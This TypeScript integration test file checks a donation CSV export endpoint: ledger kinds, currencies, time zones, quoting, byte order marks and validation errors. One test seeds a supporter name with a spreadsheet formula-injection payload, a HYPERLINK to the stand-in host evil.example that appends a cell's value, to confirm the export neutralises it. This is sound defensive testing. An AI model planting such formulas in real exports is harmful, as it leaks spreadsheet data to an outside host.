import { DONATION_EXPORT_HEADER } from '../../src/exports/donation-columns';
import {
  addEntry, buildCampaign, buildDonation, buildOrganization, buildSupporter, fakeStripeId,
} from '../factories/ledger-world';
import { startTestApp, type TestApp } from '../helpers/test-app';
import { asObjects, getCsv, tokenFor } from './export-client';

let app: TestApp;
let admin: string;
beforeAll(async () => {
  app = await startTestApp();
  admin = await tokenFor(app.db, 'admin');
});
afterAll(() => app.close());

const at = (iso: string) => new Date(iso);

describe('GET /api/admin/exports/donations.csv, column by column', () => {
  it('writes one row per ledger entry of every kind, in both currencies, with hostile text kept inert', async () => {
    const org = await buildOrganization(app.db, { timeZone: 'America/Los_Angeles' });
    const usd = await buildCampaign(app.db, org, { currency: 'usd', earmark: 'travel' });
    const jpy = await buildCampaign(app.db, org, { currency: 'jpy', earmark: 'housing_meals' });
    const hostile = await buildSupporter(app.db, org, {
      first_name: '=HYPERLINK("http://evil.example/?x="&A1,"click")', last_name: 'Pérez, "la Jefa"',
      email: 'ana@example.org', phone: '+1 206 555 0100', address_line1: '-2 Main St\nApt 4', address_line2: '@x',
      address_city: '\tTacoma', address_region: '\rWA', address_postal_code: '98101', address_country: 'US',
    });
    const plain = await buildSupporter(app.db, org, { first_name: 'José', last_name: 'Núñez', email: 'jose@example.org' });

    const once = await buildDonation(app.db, usd, hostile, { note: 'Para el capítulo, "Seattle"\r\nsegunda línea', anonymous: true });
    const monthly = await buildDonation(app.db, usd, plain, { frequency: 'monthly', installments: 6 });
    const yen = await buildDonation(app.db, jpy, plain, { amount: 500 });
    const charge = fakeStripeId('ch');
    const bt = fakeStripeId('txn');

    const ids = {
      payment: await addEntry(app.db, once, {
        kind: 'payment', gross: 2000, fee: 88, occurredAt: at('2026-11-20T17:05:09Z'), installment: 1,
        paymentMethod: 'card', stripeChargeId: charge, stripeBalanceTransactionId: bt,
      }),
      installment: await addEntry(app.db, monthly, {
        kind: 'payment', gross: 3000, fee: 117, occurredAt: at('2026-11-20T18:00:00Z'), installment: 3,
        paymentMethod: 'card', stripeChargeId: fakeStripeId('ch'), stripeInvoiceId: 'in_test_3of6',
      }),
      refund: await addEntry(app.db, once, {
        kind: 'refund', gross: -2000, fee: 0, occurredAt: at('2026-11-21T01:00:00Z'), stripeChargeId: charge, stripeRefundId: 're_test_1',
      }),
      dispute: await addEntry(app.db, monthly, {
        kind: 'dispute', gross: -3000, fee: 1500, occurredAt: at('2026-11-21T02:00:00Z'), stripeDisputeId: 'du_test_1',
      }),
      reversal: await addEntry(app.db, monthly, {
        kind: 'dispute_reversal', gross: 3000, fee: -1500, occurredAt: at('2026-11-21T03:00:00Z'), stripeDisputeId: 'du_test_1',
      }),
      offline: await addEntry(app.db, { campaign: usd, supporterId: plain.id, id: null }, {
        kind: 'offline', gross: 5000, fee: 0, occurredAt: at('2026-11-21T04:00:00Z'), paymentMethod: 'check', checkNumber: '1042',
      }),
      yen: await addEntry(app.db, yen, {
        kind: 'payment', gross: 500, fee: 15, occurredAt: at('2026-11-21T05:00:00Z'), installment: 1, paymentMethod: 'card',
      }),
    };

    const answer = await getCsv(app, `/api/admin/exports/donations.csv?from=2026-11-01&to=2026-11-30&organization=${org.slug}`, admin);
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(answer.headers.get('content-disposition')).toBe(`attachment; filename="donations-${org.slug}-2026-11-01-to-2026-11-30.csv"`);
    expect(answer.records[0]).toEqual(DONATION_EXPORT_HEADER);
    const rows = asObjects(answer.records);
    expect(rows.map((r) => r.entry_id)).toEqual(Object.values(ids).map(String));
    const [payment, installment, refund, dispute, reversal, offline, yenRow] = rows;

    expect(payment).toEqual({
      entry_id: String(ids.payment), kind: 'payment', occurred_at: '2026-11-20T09:05:09-08:00', time_zone: 'America/Los_Angeles',
      organization: org.slug, campaign: usd.slug, earmark: 'travel',
      first_name: `'=HYPERLINK("http://evil.example/?x="&A1,"click")`, last_name: 'Pérez, "la Jefa"', email: 'ana@example.org',
      phone: "'+1 206 555 0100", address_line1: "'-2 Main St\nApt 4", address_line2: "'@x", address_city: "'\tTacoma",
      address_region: "'\rWA", address_postal_code: '98101', address_country: 'US', anonymous: 'true',
      gross: '20.00', fee: '0.88', net: '19.12', currency: 'USD', payment_method: 'card', check_number: '', frequency: 'once',
      installment: '1', installments: '', stripe_charge_id: charge, stripe_invoice_id: '', stripe_refund_id: '', stripe_dispute_id: '',
      stripe_balance_transaction_id: bt, stripe_payout_id: '', receipt_number: expect.stringMatching(/^2026-\d{6}$/),
      note: 'Para el capítulo, "Seattle"\r\nsegunda línea', sponsor_fee: '0.00', net_to_organization: '19.12',
    });
    expect(installment).toMatchObject({
      kind: 'payment', first_name: 'José', last_name: 'Núñez', anonymous: 'false', gross: '30.00', fee: '1.17', net: '28.83',
      frequency: 'monthly', installment: '3', installments: '6', stripe_invoice_id: 'in_test_3of6', note: '',
    });
    expect(refund).toMatchObject({ kind: 'refund', gross: '-20.00', fee: '0.00', net: '-20.00', stripe_refund_id: 're_test_1', stripe_charge_id: charge });
    expect(refund?.receipt_number).toMatch(/^2026-\d{6}$/);
    expect(dispute).toMatchObject({ kind: 'dispute', gross: '-30.00', fee: '15.00', net: '-45.00', stripe_dispute_id: 'du_test_1', receipt_number: '' });
    expect(reversal).toMatchObject({ kind: 'dispute_reversal', gross: '30.00', fee: '-15.00', net: '45.00', receipt_number: '' });
    expect(offline).toMatchObject({
      kind: 'offline', payment_method: 'check', check_number: '1042', frequency: 'once', gross: '50.00', fee: '0.00', net: '50.00',
      stripe_balance_transaction_id: '', installment: '', anonymous: 'false',
    });
    expect(yenRow).toMatchObject({ kind: 'payment', campaign: jpy.slug, earmark: 'housing_meals', currency: 'JPY', gross: '500', fee: '15', net: '485' });
  });

  it('leaves amount cells as bare numbers in the CSV text, and quotes only what needs quoting', async () => {
    const org = await buildOrganization(app.db);
    const campaign = await buildCampaign(app.db, org);
    const supporter = await buildSupporter(app.db, org, { first_name: '-2', last_name: '+1' });
    const donation = await buildDonation(app.db, campaign, supporter);
    const charge = fakeStripeId('ch');
    await addEntry(app.db, donation, { kind: 'payment', gross: 2000, fee: 88, occurredAt: at('2026-10-10T20:00:00Z'), stripeChargeId: charge });
    await addEntry(app.db, donation, { kind: 'refund', gross: -2000, fee: 0, occurredAt: at('2026-10-11T20:00:00Z'), stripeChargeId: charge });
    const answer = await getCsv(app, `/api/admin/exports/donations.csv?from=2026-10-01&to=2026-10-31&organization=${org.slug}`, admin);
    const lines = answer.text.split('\r\n');
    expect(lines[2]).toContain(",'-2,'+1,");
    expect(lines[2]).toContain(',-20.00,0.00,-20.00,USD,');
    expect(lines).toHaveLength(4);
    expect(lines[3]).toBe('');
  });

  it('starts with a UTF-8 byte order mark only when asked', async () => {
    const route = '/api/admin/exports/donations.csv?from=2026-01-01&to=2026-01-02';
    const plain = await fetch(app.baseUrl + route, { headers: { authorization: `Bearer ${admin}` } });
    expect(Buffer.from(await plain.arrayBuffer()).subarray(0, 8).toString()).toBe('entry_id');
    const bom = await fetch(`${app.baseUrl}${route}&bom=1`, { headers: { authorization: `Bearer ${admin}` } });
    expect([...Buffer.from(await bom.arrayBuffer()).subarray(0, 4)]).toEqual([0xef, 0xbb, 0xbf, 0x65]);
  });

  it('answers 422 with one message per bad parameter, before any CSV', async () => {
    const res = await app.getJson('/api/admin/exports/donations.csv?from=2026-13-01&to=yesterday');
    expect(res.status).toBe(401);
    const answer = await fetch(`${app.baseUrl}/api/admin/exports/donations.csv?from=2026-13-01&to=yesterday`, {
      headers: { authorization: `Bearer ${admin}` },
    });
    expect(answer.status).toBe(422);
    const body = (await answer.json()) as { error: { fields: { field: string }[] } };
    expect(body.error.fields.map((f) => f.field).sort()).toEqual(['from', 'to']);
    const backwards = await fetch(`${app.baseUrl}/api/admin/exports/donations.csv?from=2026-02-01&to=2026-01-01`, {
      headers: { authorization: `Bearer ${admin}` },
    });
    expect(backwards.status).toBe(422);
    const unknown = await fetch(`${app.baseUrl}/api/admin/exports/donations.csv?from=2026-01-01&to=2026-01-31&organization=nobody`, {
      headers: { authorization: `Bearer ${admin}` },
    });
    expect(unknown.status).toBe(404);
  });
});
